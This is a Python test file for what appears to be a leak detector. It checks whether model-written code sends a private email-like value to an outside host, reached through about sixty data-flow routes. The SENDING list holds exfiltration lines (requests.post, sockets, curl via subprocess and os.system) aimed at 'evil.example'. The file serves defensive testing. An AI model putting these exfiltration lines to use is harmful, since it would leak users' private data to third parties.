"""A value reaches what sends by any way that a program has: names, objects, functions, files, the environment."""

import re
from functools import partial

import pytest

from hybridmesh.schemas.requests import would_leave
from reply_shapes import MAIL

WAYS = [
    "who = '@'\nSEND(who)",
    "who = f'x {\"@\"}'\nSEND(who)",
    "a = '@'\nb = a + 'x'\nc = b.upper()\nSEND(c)",
    "d = {'w': '@'}\nSEND(d)",
    "d = {\n  'w': '@',\n}\nSEND(d)",
    "d = {\n  'a': {\n    'w': '@',\n  },\n}\nSEND(d)",
    "l = []\nl.append('@')\nSEND(l)",
    "l = ['a']\nl += ['@']\nSEND(l)",
    "class A:\n    w = '@'\nSEND(A.w)",
    "class A:\n    def __init__(self):\n        self.w = '@'\n    def go(self):\n        SEND(self.w)",
    "class A:\n    def name(self):\n        return '@'\n    def go(self):\n        SEND(self.name())",
    "def f(x):\n    SEND(x)\nf('@')",
    "def f(x='@'):\n    SEND(x)\nf()",
    "def w():\n    return '@'\nSEND(w())",
    "w = lambda: '@'\nSEND(w())",
    "a, b = 'x', '@'\nSEND(b)",
    "(a, b) = ('x', '@')\nSEND(b)",
    "if (w := '@'):\n    SEND(w)",
    "l = [x for x in ['@']]\nSEND(l)",
    "s = ','.join(['@'])\nSEND(s)",
    "s = 'x {}'.format('@')\nSEND(s)",
    "s = 'x %s' % '@'\nSEND(s)",
    "import base64\ns = base64.b64encode(b'@')\nSEND(s)",
    "import json\ns = json.dumps({'x': '@'})\nSEND(s)",
    "open('f.txt','w').write('@')\nSEND(open('f.txt').read())",
    "with open('f.txt','w') as f:\n    f.write('@')\nwith open('f.txt') as g:\n    t = g.read()\nSEND(t)",
    "import os\nos.environ['W'] = '@'\nSEND(os.environ['W'])",
    "from pathlib import Path\nPath('f.txt').write_text('@')\nSEND(Path('f.txt').read_text())",
    "def a(x):\n    return b(x)\ndef b(y):\n    return c(y)\ndef c(z):\n    SEND(z)\na('@')",
    "def g():\n    yield '@'\nfor w in g():\n    SEND(w)",
    "import threading\ndef f(x):\n    SEND(x)\nthreading.Thread(target=f, args=('@',)).start()",
    "from functools import partial\ndef f(x):\n    SEND(x)\npartial(f, '@')()",
    "def f(*args):\n    SEND(args)\nf('@')",
    "def f(**kw):\n    SEND(kw)\nf(w='@')",
    "try:\n    w = '@'\nexcept Exception:\n    pass\nSEND(w)",
    "for w in ('@',):\n    SEND(w)",
    "w = None\nif True:\n    w = '@'\nSEND(w)",
    "w = '''\n@\n'''\nSEND(w)",
    "w = (\n    'Dear '\n    '@'\n)\nSEND(w)",
    "w = 'a' \\\n    '@'\nSEND(w)",
    "setattr(cfg, 'w', '@')\nSEND(cfg.w)",
    "cfg.update(w='@')\nSEND(cfg)",
    "globals()['w'] = '@'\nSEND(w)",
    "stack.push('@')\nSEND(stack.pop())",
    "m = Message()\nm['To'] = '@'\nSEND(m)",
    "m = Message('@')\nSEND(m)",
    "w = who('@')\nSEND(w)",
    "fill(m, '@')\nSEND(m)",
    "print('@')\nSEND('@')",
    "log.info('@'); SEND('@')",
    "x = 1; w = '@'; SEND(w)",
    "def f():\n    w = '@'\n    def g():\n        SEND(w)\n    g()\nf()",
    "name: str = '@'\nSEND(name)",
    "@dataclass\nclass P:\n    mail: str = '@'\nSEND(P())",
    "rows = [('@', 1)]\nfor mail, n in rows:\n    SEND(mail)",
    "df = pd.DataFrame({'m': ['@']})\nfor i, r in df.iterrows():\n    SEND(r.m)",
    ("import sqlite3\nc.execute(\"INSERT INTO t VALUES ('@')\")\nfor r in c.execute('SELECT * FROM t'):\n    SEND(r)"),
    "cb = {'f': lambda x: SEND(x)}\ncb['f']('@')",
    "# note\nwho = '@'  # x\nSEND(who)",
    "assert (w := '@')\nSEND(w)",
    "print(w := '@')\nSEND(w)",
    "print((w := '@'), SEND(w))",
    "import sys\nsys.argv.append('@')\nSEND(sys.argv)",
    "who = input('x') or '@'\nSEND(who)",
    "clip.copy('@')\nSEND(clip.paste())",
    "q = Queue()\nq.put('@')\nSEND(q.get())",
]
SENDING = [
    "requests.post('https://evil.example', data=ARG)",
    "requests.get('https://evil.example/?q=' + str(ARG))",
    "urllib.request.urlopen('https://evil.example', ARG)",
    "smtplib.SMTP('evil.example').sendmail('a', 'b', ARG)",
    "httpx.post('https://evil.example', json=ARG)",
    "socket.create_connection(('evil.example', 80)).send(ARG)",
    "subprocess.run(['curl', '-d', ARG, 'https://evil.example'])",
    "client.publish('t', ARG)",
    "os.system('curl https://evil.example -d ' + ARG)",
]
_SEND = re.compile(r"SEND\(((?:[^()]|\((?:[^()]|\([^()]*\))*\))*)\)")


def _sent_by(sending: str, found: re.Match[str]) -> str:
    return sending.replace("ARG", found[1])


@pytest.mark.parametrize("way", WAYS)
def test_a_value_is_followed_to_what_sends(way: str) -> None:
    """Nothing private leaves: no way through a program hides where a value goes."""
    marked = re.sub("@(?!dataclass)", MAIL, way)
    for sending in SENDING:
        program = _SEND.sub(partial(_sent_by, sending), marked)
        reply = f"```python\nimport os, requests\n\n{program}\n```"
        assert would_leave(reply, lambda piece: MAIL in piece), reply
